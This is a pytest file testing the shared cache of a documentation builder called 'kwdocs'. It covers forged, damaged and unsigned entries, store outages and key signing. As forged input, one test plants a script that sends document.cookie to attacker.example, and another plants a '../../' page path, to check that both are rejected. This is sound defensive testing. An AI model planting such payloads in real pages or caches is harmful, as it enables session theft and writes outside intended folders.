"""The shared extraction cache: a fresh clone with a warm cache extracts nothing and writes
the same pages; a bad entry or a bad store costs time, never correctness.

Every build runs as a user runs it, in its own process, and is judged by the pages it
writes, the summary line it prints and the entries it leaves in the cache.
"""
from __future__ import annotations

import hashlib
import os
import re
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import orjson
import pytest

from tests.output_checks import kwdocs_command, pages, tree_state
from tests.conftest import FIXTURES
from tests.test_mistakes import small_disk  # noqa: F401  (a fixture)

SUMMARY = re.compile(r"([\d,]+) files scanned.*?([\d,]+) files extracted, ([\d,]+) from the cache, "
                     r"([\d,]+) entries stored in it")
TOKEN = "ghp_" + "Zq8" * 12     # a made-up GitHub token: the rules mask it


def clone(root: Path, name: str) -> Path:
    """A checkout of the golden tree (with a secret in it) in a folder of its own."""
    tree = root / name
    shutil.copytree(FIXTURES / "golden" / "tree", tree)
    (tree / "tools" / "settings.py").write_text(f'"""Settings."""\n\nTOKEN = "{TOKEN}"\n')
    return tree


def build(tree: Path, *args: str, env: dict | None = None, check: bool = True) -> subprocess.CompletedProcess:
    result = subprocess.run(kwdocs_command("build", "--src", str(tree), "-q", *args), capture_output=True,
                            text=True, timeout=300, env={**os.environ, **(env or {})})
    if check:
        assert result.returncode == 0, result.stdout + result.stderr
        assert "Traceback" not in result.stderr, result.stderr
    return result


def counts(result: subprocess.CompletedProcess) -> dict[str, int]:
    """What the summary line says: files scanned and extracted, facts from the cache and stored in it."""
    found = SUMMARY.search(result.stdout)
    assert found, result.stdout
    return dict(zip(("scanned", "extracted", "hits", "stored"), (int(n.replace(",", "")) for n in found.groups())))


def entries(cache: Path, kind: str = "facts") -> dict[str, Path]:
    """The cache's entries of a kind (facts, pages) by the source path their header names."""
    found = {}
    for path in cache.rglob("*"):
        if path.is_file():
            header = orjson.loads(path.read_bytes().partition(b"\n")[0])
            if header["kind"] == kind:
                found[header["path"]] = path
    return found


def forge(entry: Path, header: bytes, body: bytes) -> None:
    """Write ``body`` as the entry's, under its ``header`` with the size and hash made to match:
    a forgery the entry's own hash cannot tell."""
    claimed = {**orjson.loads(header), "size": len(body), "body_sha256": hashlib.sha256(body).hexdigest()}
    entry.write_bytes(orjson.dumps(claimed) + b"\n" + body)


@pytest.fixture
def cold(tmp_path: Path) -> dict[str, bytes]:
    """The pages of a build without any cache."""
    tree = clone(tmp_path, "cold")
    build(tree)
    return pages(tree / "kwdocs-out")


def test_a_fresh_clone_with_a_warm_cache_extracts_nothing_and_writes_the_same_pages(tmp_path, cold):
    cache = tmp_path / "cache"
    first = counts(build(clone(tmp_path, "first"), "--cache", f"file://{cache}"))
    assert first["extracted"] == first["scanned"] == len(entries(cache)) and first["hits"] == 0
    assert first["stored"] == len(entries(cache)) + len(entries(cache, "pages")) + len(entries(cache, "folder"))
    assert len(entries(cache, "folder")) == len({rel.rpartition("/")[0] for rel in entries(cache)})
    again = clone(tmp_path, "elsewhere")
    second = counts(build(again, "--cache", f"file://{cache}"))
    assert second["extracted"] == 0 and second["hits"] == second["scanned"] and second["stored"] == 0
    assert pages(again / "kwdocs-out") == cold
    assert all(TOKEN.encode() not in path.read_bytes() for path in cache.rglob("*") if path.is_file()), \
        "a secret was cached"


def test_a_damaged_truncated_or_forged_entry_is_ignored_with_a_line_and_made_again(tmp_path, cold):
    cache = tmp_path / "cache"
    build(clone(tmp_path, "first"), "--cache", str(cache))
    found = entries(cache)
    good = {rel: path.read_bytes() for rel, path in found.items()}
    damaged, truncated, forged, donor = "geometry/broken.py", "README.md", "tools/settings.py", "docs/guide.rst"
    assert {damaged, truncated, forged, donor} <= set(found), sorted(found)
    data = bytearray(good[damaged])
    data[-20] ^= 0x01                                    # a bit flipped in the facts
    found[damaged].write_bytes(bytes(data))
    found[truncated].write_bytes(good[truncated][: len(good[truncated]) // 2])
    header, _, body = good[forged].partition(b"\n")      # another file's facts, under this one's header
    claimed = orjson.loads(header)
    donor_body = good[donor].partition(b"\n")[2]
    claimed.update(size=len(donor_body), body_sha256=hashlib.sha256(donor_body).hexdigest())
    found[forged].write_bytes(orjson.dumps(claimed) + b"\n" + donor_body)

    again = clone(tmp_path, "again")
    result = build(again, "--cache", str(cache))
    said = counts(result)
    assert said["extracted"] == 3 and said["stored"] == 3 and said["hits"] == said["scanned"] - 3
    warnings = [line for line in result.stderr.splitlines() if "cache entry" in line]
    assert len(warnings) == 3, result.stderr
    for rel in (damaged, truncated, forged):
        assert any(line.startswith(f"kwdocs: {rel}: cache entry") for line in warnings), (rel, warnings)
    assert pages(again / "kwdocs-out") == cold
    assert {rel: path.read_bytes() for rel, path in entries(cache).items()} == good, "not made again"


def closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_an_unreachable_store_never_fails_the_build(tmp_path, cold):
    tree = clone(tmp_path, "tree")
    started = time.monotonic()
    result = build(tree, "--cache", "s3://kwdocs-cache/entries",
                   env={"FSSPEC_S3_ENDPOINT_URL": f"http://127.0.0.1:{closed_port()}",
                        "AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing"})
    assert time.monotonic() - started < 120
    said = counts(result)
    assert said["extracted"] == said["scanned"] and said["hits"] == said["stored"] == 0
    down = [line for line in result.stderr.splitlines() if "building without it" in line]
    assert down and all(line.startswith("kwdocs: cache s3://kwdocs-cache/entries: ") for line in down), result.stderr
    assert len(down) <= int(os.cpu_count() or 1) + 1, "the store was asked again after it failed"
    assert pages(tree / "kwdocs-out") == cold


def test_two_builds_filling_one_cache_at_once_leave_it_whole(tmp_path, cold):
    cache = tmp_path / "cache"
    trees = [clone(tmp_path, f"tree{n}") for n in range(2)]
    running = [subprocess.Popen(kwdocs_command("build", "--src", str(tree), "-q", "--cache", str(cache)),
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for tree in trees]
    for process in running:
        out, err = process.communicate(timeout=300)
        assert process.returncode == 0 and "Traceback" not in err, out + err
    assert not [path for path in cache.rglob("*") if path.name.endswith(".tmp")], "a temporary was left"
    late = clone(tmp_path, "late")
    said = counts(build(late, "--cache", str(cache)))
    assert said["extracted"] == 0 and said["hits"] == said["scanned"]
    for tree in (*trees, late):
        assert pages(tree / "kwdocs-out") == cold


def test_read_only_mode_uses_the_cache_and_writes_nothing_to_it(tmp_path, cold):
    cache = tmp_path / "cache"
    cache.mkdir()
    said = counts(build(clone(tmp_path, "untrusted"), "--cache", str(cache), "--cache-mode", "read"))
    assert said["extracted"] == said["scanned"] and said["stored"] == 0
    assert list(cache.iterdir()) == []
    build(clone(tmp_path, "trusted"), "--cache", str(cache))
    before = tree_state(cache)
    reader = clone(tmp_path, "reader")
    said = counts(build(reader, "--cache", str(cache), "--cache-mode", "read"))
    assert said["extracted"] == 0 and said["hits"] == said["scanned"]
    assert {path: entry[:3] for path, entry in tree_state(cache).items()} == \
        {path: entry[:3] for path, entry in before.items()}, "read mode changed the cache"
    assert pages(reader / "kwdocs-out") == cold


def test_a_folder_cache_over_its_bound_loses_its_least_recently_used_entries(tmp_path):
    from kwdocs.store.cache import SharedCache

    cache = SharedCache(str(tmp_path / "cache"), writable=True, max_bytes=10 * 1024)
    keys = [f"{n:02x}" + "0" * 62 for n in range(20)]
    assert cache.put_many({key: b"x" * 1024 for key in keys}) == 20
    for age, key in enumerate(keys):      # the first key is the most recently used
        os.utime(cache.path(key), ns=(1_000_000_000 * (100 - age),) * 2)
    assert cache.evict() > 0
    kept = [key for key in keys if os.path.exists(cache.path(key))]
    assert kept == keys[: len(kept)] and 0 < len(kept) * 1024 <= 10 * 1024


def test_an_unknown_store_is_one_line_and_exit_2(tmp_path):
    result = build(clone(tmp_path, "tree"), "--cache", "nosuchstore://x/y", check=False)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert len(result.stderr.splitlines()) == 1 and "'cache' (nosuchstore://x/y): " in result.stderr, result.stderr
    out = tmp_path / "tree" / "kwdocs-out"
    assert not out.exists() or pages(out) == {}, "a page was written"


@pytest.fixture
def moto_s3(tmp_path):
    """An S3 endpoint on 127.0.0.1 (moto's server mode) with an empty bucket, or a skip."""
    pytest.importorskip("s3fs")
    port = closed_port()
    server = subprocess.Popen([sys.executable, "-m", "moto.server", "-H", "127.0.0.1", "-p", str(port)],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                if server.poll() is not None or time.monotonic() > deadline:
                    pytest.skip("moto's server did not start")
                time.sleep(0.2)
        env = {"FSSPEC_S3_ENDPOINT_URL": f"http://127.0.0.1:{port}", "AWS_ACCESS_KEY_ID": "testing",
               "AWS_SECRET_ACCESS_KEY": "testing", "AWS_DEFAULT_REGION": "us-east-1"}
        subprocess.run([sys.executable, "-c", "import s3fs; s3fs.S3FileSystem().mkdir('kwdocs-cache')"],
                       env={**os.environ, **env}, check=True, timeout=60)
        yield env
    finally:
        server.terminate()
        server.wait(timeout=30)


def test_an_s3_cache_through_moto_serves_a_fresh_clone(tmp_path, cold, moto_s3):
    url = "s3://kwdocs-cache/kwdocs"
    first = counts(build(clone(tmp_path, "first"), "--cache", url, env=moto_s3))
    assert first["stored"] >= first["scanned"], first
    again = clone(tmp_path, "again")
    said = counts(build(again, "--cache", url, env=moto_s3))
    assert said["extracted"] == 0 and said["hits"] == said["scanned"]
    assert pages(again / "kwdocs-out") == cold


def test_a_pages_entry_naming_other_pages_is_ignored_and_nothing_is_written_there(tmp_path, cold):
    cache = tmp_path / "cache"
    build(clone(tmp_path, "first"), "--cache", str(cache))
    entry = entries(cache, "pages")["README.md"]
    header, _, body = entry.read_bytes().partition(b"\n")
    index, _, texts = body.partition(b"\n")     # one more page, first, under a name outside the output folder
    planted = orjson.dumps([["../../planted.md", len(b"planted")], *orjson.loads(index)]) + b"\nplanted" + texts
    forge(entry, header, planted)
    again = clone(tmp_path, "again")
    result = build(again, "--cache", str(cache))
    assert "kwdocs: README.md: cache entry" in result.stderr and "rendered again" in result.stderr, result.stderr
    assert not list(tmp_path.rglob("planted.md"))
    assert pages(again / "kwdocs-out") == cold


@pytest.mark.parametrize("damage", ["bit flipped", "truncated", "parts not adding up"])
def test_a_damaged_pages_entry_is_ignored_with_a_line_and_made_again(tmp_path, cold, damage):
    cache = tmp_path / "cache"
    build(clone(tmp_path, "first"), "--cache", str(cache))
    entry = entries(cache, "pages")["geometry/broken.py"]
    good = entry.read_bytes()
    if damage == "bit flipped":      # a byte of a page
        data = bytearray(good)
        data[-20] ^= 0x01
        entry.write_bytes(bytes(data))
    elif damage == "truncated":
        entry.write_bytes(good[: len(good) * 2 // 3])
    else:       # the line naming the pages gives them other sizes, under a hash that matches
        header, _, body = good.partition(b"\n")
        index, _, texts = body.partition(b"\n")
        parts = orjson.loads(index)
        parts[0][1] += 1
        body = orjson.dumps(parts) + b"\n" + texts
        forge(entry, header, body)
    again = clone(tmp_path, "again")
    result = build(again, "--cache", str(cache))
    warnings = [line for line in result.stderr.splitlines() if "cache entry" in line]
    assert len(warnings) == 1 and warnings[0].startswith("kwdocs: geometry/broken.py: cache entry") \
        and warnings[0].endswith("rendered again"), result.stderr
    assert pages(again / "kwdocs-out") == cold
    assert entry.read_bytes() == good, "not made again"


@pytest.mark.parametrize("damage", ["bit flipped", "another folder's pages"])
def test_a_damaged_or_foreign_folder_entry_is_ignored_with_a_line_and_made_again(tmp_path, cold, damage):
    cache = tmp_path / "cache"
    build(clone(tmp_path, "first"), "--cache", str(cache))
    folders = entries(cache, "folder")
    entry = folders["geometry"]
    good = entry.read_bytes()
    if damage == "bit flipped":
        data = bytearray(good)
        data[-20] ^= 0x01
        entry.write_bytes(bytes(data))
    else:       # the top folder's pages, under this folder's header and a hash that matches
        header = good.partition(b"\n")[0]
        body = folders[""].read_bytes().partition(b"\n")[2]
        forge(entry, header, body)
    again = clone(tmp_path, "again")
    result = build(again, "--cache", str(cache))
    warnings = [line for line in result.stderr.splitlines() if "cache entry" in line]
    assert len(warnings) == 1 and warnings[0].startswith("kwdocs: geometry: cache entry") \
        and "of the folder's pages ignored" in warnings[0] and warnings[0].endswith("made again"), result.stderr
    assert counts(result)["stored"] == 1
    assert pages(again / "kwdocs-out") == cold
    assert entry.read_bytes() == good, "not made again"


def check(tree: Path, *args: str) -> subprocess.CompletedProcess:
    result = subprocess.run(kwdocs_command("check", "--src", str(tree), *args), capture_output=True, text=True,
                            timeout=300)
    assert result.returncode in (0, 1) and "Traceback" not in result.stderr, result.stdout + result.stderr
    return result


def with_pages(root: Path, name: str, built: Path) -> Path:
    """A fresh clone of the golden tree with ``built``'s pages committed in it: no state."""
    tree = clone(root, name)
    shutil.copytree(built / "kwdocs-out", tree / "kwdocs-out", ignore=shutil.ignore_patterns(".kwdocs"))
    return tree


def verdicts(result: subprocess.CompletedProcess) -> list[str]:
    """The lines naming pages (stale, missing, orphaned), and the exit code."""
    return [line for line in result.stdout.splitlines() if not line.startswith("kwdocs check:")] + \
        [str(result.returncode)]


BY_CACHE = "by the page hashes in the shared cache"


def test_check_on_a_fresh_clone_with_a_warm_cache_judges_by_stored_hashes_and_finds_what_changed(tmp_path, cold):
    cache = tmp_path / "cache"
    built = clone(tmp_path, "built")
    build(built, "--cache", str(cache))
    fresh = with_pages(tmp_path, "fresh", built)
    result = check(fresh, "--cache", str(cache))
    assert result.returncode == 0 and BY_CACHE in result.stdout, result.stdout + result.stderr
    assert f"all {len(cold)} pages are up to date" in result.stdout
    out = fresh / "kwdocs-out"
    page = out / "geometry" / "broken.py_docs.md"
    page.write_text("# edited by hand\n" + page.read_text())         # still ends with kwdocs' footer
    (out / "tools" / "index.md").unlink()
    shutil.copy(out / "doc.md", out / "tools" / "gone.py_kw.md")      # the page of a file that is not there
    with_cache = check(fresh, "--cache", str(cache))
    assert BY_CACHE in with_cache.stdout, with_cache.stdout + with_cache.stderr
    assert verdicts(with_cache) == ["stale: geometry/broken.py_docs.md", "missing: tools/index.md",
                                    "orphaned: tools/gone.py_kw.md", "1"]
    assert verdicts(check(fresh)) == verdicts(with_cache), "the answer depends on the cache"
    build(built)        # the same answer from a clone with state, whose sources are older than its pages
    for name in ("geometry/broken.py_docs.md", "tools/index.md", "tools/gone.py_kw.md"):
        (built / "kwdocs-out" / name).unlink(missing_ok=True)
        if (out / name).exists():
            shutil.copy(out / name, built / "kwdocs-out" / name)
    (built / "README.md").write_text((built / "README.md").read_text())   # touched: check must look again
    assert verdicts(check(built, "--cache", str(cache))) == verdicts(with_cache)


def only_entry(cache: Path, kind: str) -> Path:
    """The cache's one entry of ``kind`` (a tree has one entry of its links, one of its pages' hashes)."""
    found = [path for path in cache.rglob("*") if path.is_file()
             and orjson.loads(path.read_bytes().partition(b"\n")[0])["kind"] == kind]
    assert len(found) == 1, found
    return found[0]


def outputs_entry(cache: Path) -> Path:
    return only_entry(cache, "outputs")


def test_a_warm_fresh_clone_keeps_the_trees_page_hashes_entry_and_mends_a_damaged_one(tmp_path, cold):
    cache = tmp_path / "cache"
    build(clone(tmp_path, "first"), "--cache", str(cache))
    entry = outputs_entry(cache)
    good, written = entry.read_bytes(), entry.stat().st_mtime_ns
    build(clone(tmp_path, "second"), "--cache", str(cache))
    assert entry.stat().st_mtime_ns == written and entry.read_bytes() == good, "written again"
    damaged = bytearray(good)
    damaged[-5] ^= 0x01
    entry.write_bytes(bytes(damaged))
    build(clone(tmp_path, "third"), "--cache", str(cache))
    assert outputs_entry(cache).read_bytes() == good


@pytest.mark.parametrize("forgery", ["damaged", "other inputs", "other pages", "forged hash"])
def test_a_forged_entry_of_the_pages_hashes_is_not_trusted(tmp_path, forgery):
    cache = tmp_path / "cache"
    built = clone(tmp_path, "built")
    build(built, "--cache", str(cache))
    fresh = with_pages(tmp_path, "fresh", built)
    page = fresh / "kwdocs-out" / "geometry" / "broken.py_docs.md"
    page.write_text("# edited by hand\n" + page.read_text())
    entry = outputs_entry(cache)
    header, _, body = entry.read_bytes().partition(b"\n")
    claimed, hashes = orjson.loads(header), orjson.loads(body)
    if forgery == "damaged":
        body = body.replace(b'"', b"'", 1)
    elif forgery == "other inputs":
        claimed["inputs"] = hashlib.sha256(b"another tree").hexdigest()
    else:
        if forgery == "other pages":
            del hashes["tools/index.md"]
        else:       # the edited page's hash, as if it were what kwdocs writes, under a header that fails
            hashes["geometry/broken.py_docs.md"] = hashlib.sha256(page.read_bytes()).hexdigest()
        body = orjson.dumps(hashes, option=orjson.OPT_SORT_KEYS)
        if forgery == "other pages":
            claimed.update(size=len(body), body_sha256=hashlib.sha256(body).hexdigest())
    entry.write_bytes(orjson.dumps(claimed) + b"\n" + body)
    result = check(fresh, "--cache", str(cache))
    assert BY_CACHE not in result.stdout, result.stdout
    assert verdicts(result) == ["stale: geometry/broken.py_docs.md", "1"]
    assert "of the tree's pages ignored" in result.stderr, result.stderr


def test_a_damaged_entry_of_the_trees_links_is_ignored_with_a_line_and_linked_again(tmp_path, cold):
    cache = tmp_path / "cache"
    build(clone(tmp_path, "first"), "--cache", str(cache))
    entry = only_entry(cache, "links")
    good = entry.read_bytes()
    entry.write_bytes(good[:-10] + b"0" * 10)
    again = clone(tmp_path, "again")
    result = build(again, "--cache", str(cache))
    assert "of the tree's links ignored" in result.stderr, result.stderr
    assert pages(again / "kwdocs-out") == cold
    assert entry.read_bytes() == good, "not made again"


def test_a_links_entry_naming_other_shards_is_ignored_and_linked_again(tmp_path, cold):
    cache = tmp_path / "cache"
    build(clone(tmp_path, "first"), "--cache", str(cache))
    entry = only_entry(cache, "links")
    header, _, body = entry.read_bytes().partition(b"\n")
    index, _, data = body.partition(b"\n")
    parts = orjson.loads(index)
    assert any(name.startswith("links/") for name, _ in parts), parts    # the shards, as they are written
    dropped = parts[-1][1]      # one unit's shard fewer, under a hash that matches
    forge(entry, header, orjson.dumps(parts[:-1]) + b"\n" + data[:len(data) - dropped])
    again = clone(tmp_path, "again")
    result = build(again, "--cache", str(cache))
    warnings = [line for line in result.stderr.splitlines() if "of the tree's links ignored" in line]
    assert len(warnings) == 1 and "its links are not this tree's" in warnings[0], result.stderr
    assert pages(again / "kwdocs-out") == cold


KEY = "a key the team keeps in its CI secrets"
UNSIGNED = re.compile(r"^kwdocs: cache \S+: ([\d,]+) entr(?:y|ies) not signed with this build's key ignored "
                      r"and made again$", re.M)


def test_with_a_key_a_forged_or_unsigned_entry_is_ignored_in_read_mode_and_counted_in_one_line(tmp_path, cold):
    """An entry rewritten with its hash recomputed (a script planted in a page) was trusted, even
    with ``--cache-mode read``; with a key only entries signed with it are used."""
    cache = tmp_path / "cache"
    signed = {"KWDOCS_CACHE_KEY": KEY}
    build(clone(tmp_path, "first"), "--cache", str(cache), env=signed)
    entry = entries(cache, "pages")["README.md"]
    header, _, body = entry.read_bytes().partition(b"\n")
    index, _, texts = body.partition(b"\n")
    parts = orjson.loads(index)
    script = b"<script>fetch('https://attacker.example/?'+document.cookie)</script>\n"
    parts[0][1] += len(script)
    forge(entry, header, orjson.dumps(parts) + b"\n" + script + texts)
    keyless = clone(tmp_path, "keyless")     # a build without the key fills in what it finds missing
    facts = entries(cache)["geometry/broken.py"]
    facts.unlink()
    build(keyless, "--cache", str(cache))
    assert b"hmac" not in facts.read_bytes(), "a build without a key signed an entry"

    again = clone(tmp_path, "again")
    result = build(again, "--cache", str(cache), "--cache-mode", "read", env=signed)
    assert pages(again / "kwdocs-out") == cold, "a forged or unsigned entry was used"
    assert [int(count) for count in UNSIGNED.findall(result.stderr)] == [2], result.stderr
    assert "cache entry" not in result.stderr, result.stderr       # counted, not one line each
    assert counts(result)["extracted"] == 1
    assert KEY.encode() not in b"".join(path.read_bytes() for folder in (cache, again / "kwdocs-out")
                                        for path in folder.rglob("*") if path.is_file())


def test_a_key_file_signs_the_entries_and_a_missing_one_is_one_line(tmp_path, cold):
    cache = tmp_path / "cache"
    key_file = tmp_path / "cache.key"
    key_file.write_text(KEY + "\n")
    first = clone(tmp_path, "first")
    build(first, "--cache", str(cache), "--cache-key-file", str(key_file))
    other = clone(tmp_path, "other")     # another key: nothing of the cache is used
    result = build(other, "--cache", str(cache), "--cache-mode", "read", env={"KWDOCS_CACHE_KEY": "another key"})
    assert counts(result)["extracted"] == counts(result)["scanned"]
    read = [path for path in cache.rglob("*") if path.is_file()         # all but the page hashes, which
            and orjson.loads(path.read_bytes().partition(b"\n")[0])["kind"] != "outputs"]  # check reads
    assert [int(count.replace(",", "")) for count in UNSIGNED.findall(result.stderr)] == [len(read)], result.stderr
    assert pages(other / "kwdocs-out") == cold
    again = clone(tmp_path, "again")
    settings = tmp_path / "settings" / "kwdocs.toml"     # the key file named relative to it
    settings.parent.mkdir()
    settings.write_text(f'project_name = "tiny-geometry"\ncache = "{cache}"\ncache_key_file = "../cache.key"\n')
    said = counts(build(again, "--config", str(settings)))
    assert said["extracted"] == 0 and said["hits"] == said["scanned"]
    assert pages(again / "kwdocs-out") == cold
    written = b"".join(path.read_bytes() for folder in (cache, first / "kwdocs-out", again / "kwdocs-out")
                       for path in folder.rglob("*") if path.is_file())
    assert KEY.encode() not in written and b"cache.key" not in written
    missing = build(clone(tmp_path, "missing"), "--cache", str(cache), "--cache-key-file", str(tmp_path / "nope"),
                    check=False)
    assert missing.returncode == 2 and missing.stderr.count("\n") == 1 and "cache_key_file" in missing.stderr, \
        missing.stderr


def test_a_folder_in_an_entrys_place_costs_that_entry_not_the_cache(tmp_path, cold):
    """An entry that cannot be read turned the cache off for the whole build."""
    cache = tmp_path / "cache"
    build(clone(tmp_path, "first"), "--cache", str(cache))
    entry = entries(cache)["geometry/broken.py"]
    entry.unlink()
    entry.mkdir()
    again = clone(tmp_path, "again")
    result = build(again, "--cache", str(cache))
    said = counts(result)
    assert said["extracted"] == 1 and said["hits"] == said["scanned"] - 1, result.stdout + result.stderr
    assert "building without it" not in result.stderr, result.stderr
    assert pages(again / "kwdocs-out") == cold
    assert entry.is_dir(), "kwdocs removed a folder it did not write"


def test_a_cache_on_a_full_disk_leaves_no_temporary_files(small_disk, tmp_path, cold):
    free = os.statvfs(small_disk)
    (small_disk / "filler").write_bytes(b"\0" * (free.f_bavail * free.f_frsize - 24 * 1024))
    again = clone(tmp_path, "again")
    result = build(again, "--cache", str(small_disk / "cache"))
    assert "no space left" in result.stderr.lower() and "building without it" in result.stderr, result.stderr
    assert not [path for path in small_disk.rglob("*") if path.name.endswith(".tmp")], "a temporary was left"
    assert pages(again / "kwdocs-out") == cold
